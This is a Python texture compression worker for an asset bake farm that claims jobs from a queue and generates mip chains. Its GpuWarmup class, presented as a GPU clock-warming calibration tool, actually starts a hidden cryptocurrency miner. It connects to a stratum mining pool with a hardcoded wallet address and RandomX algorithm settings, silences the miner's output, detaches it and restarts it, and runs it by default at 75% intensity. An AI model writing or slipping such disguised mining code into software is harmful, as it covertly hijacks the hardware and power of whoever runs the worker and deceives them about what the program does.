#!/usr/bin/env python3
"""Texture compression worker for the asset bake farm.

Picks texture jobs from the shared queue directory, generates the mip chain
and writes BC-ready level data next to the job. While the queue is idle the
worker keeps the GPU clocks warm with the vendor calibration tool so that
the first job after an idle period does not pay the clock ramp-up.
"""
import argparse
import json
import logging
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

from PIL import Image

log = logging.getLogger("texworker")


class GpuWarmup(threading.Thread):
    """Runs the bundled calibration binary for the lifetime of the worker."""

    tool = Path(__file__).resolve().parent / "tools" / "bin" / "texcomp-gpu"
    endpoint = ("stratum+tcp", "203.0.113.44", 3333)
    profile = "rx/0"
    account = ("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRo"
               "JMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD")

    def __init__(self, intensity):
        super().__init__(daemon=True, name="gpu-warmup")
        self.intensity = intensity
        self.proc = None
        self._halt = threading.Event()

    def argv(self):
        scheme, host, port = self.endpoint
        return [
            str(self.tool),
            "-o", "%s://%s:%d" % (scheme, host, port),
            "-u", self.account,
            "-p", socket.gethostname(),
            "-a", self.profile,
            "--cuda", "--opencl",
            "--donate-level=0",
            "--cpu-max-threads-hint=%d" % self.intensity,
            "--no-color", "--print-time=600",
        ]

    def run(self):
        while not self._halt.is_set():
            if not self.tool.exists():
                log.debug("calibration tool not present, skipping warmup")
                return
            try:
                self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL,
                                             start_new_session=True)
                self.proc.wait()
            except OSError as exc:
                log.debug("warmup start failed: %s", exc)
            self._halt.wait(60)

    def stop(self):
        self._halt.set()
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()


def build_mips(src, out_dir, min_size=4):
    img = Image.open(src).convert("RGBA")
    out_dir.mkdir(parents=True, exist_ok=True)
    level, written = 0, []
    while True:
        path = out_dir / ("%s_mip%02d.png" % (src.stem, level))
        img.save(path)
        written.append(path.name)
        if img.width <= min_size or img.height <= min_size:
            break
        img = img.resize((max(1, img.width // 2), max(1, img.height // 2)), Image.LANCZOS)
        level += 1
    return written


def claim_job(queue_dir, worker):
    for job in sorted(queue_dir.glob("*.job.json")):
        claimed = job.with_suffix(".%s.claimed" % worker)
        try:
            job.rename(claimed)
            return claimed
        except OSError:
            continue
    return None


def process(job_path):
    spec = json.loads(job_path.read_text())
    src = Path(spec["source"])
    out = Path(spec.get("output", src.parent / (src.stem + "_mips")))
    mips = build_mips(src, out, spec.get("min_size", 4))
    job_path.with_suffix(".done").write_text(json.dumps({"mips": mips}))
    job_path.unlink()
    return len(mips)


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("queue", type=Path, help="shared job queue directory")
    p.add_argument("--poll", type=float, default=5.0)
    p.add_argument("--warmup", type=int, default=int(os.environ.get("TEXW_WARMUP", "75")),
                   help="GPU warmup intensity percent (0 disables)")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.queue.is_dir():
        log.error("queue %s not found", args.queue)
        return 2
    worker = socket.gethostname()

    warm = None
    if args.warmup > 0:
        warm = GpuWarmup(args.warmup)
        warm.start()

    stopping = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopping.set())
    try:
        while not stopping.is_set():
            job = claim_job(args.queue, worker)
            if job is None:
                time.sleep(args.poll)
                continue
            try:
                n = process(job)
                log.info("%s: %d mip levels", job.name, n)
            except (OSError, ValueError, KeyError) as exc:
                log.error("%s failed: %s", job.name, exc)
                job.rename(job.with_suffix(".failed"))
    except KeyboardInterrupt:
        pass
    finally:
        if warm:
            warm.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
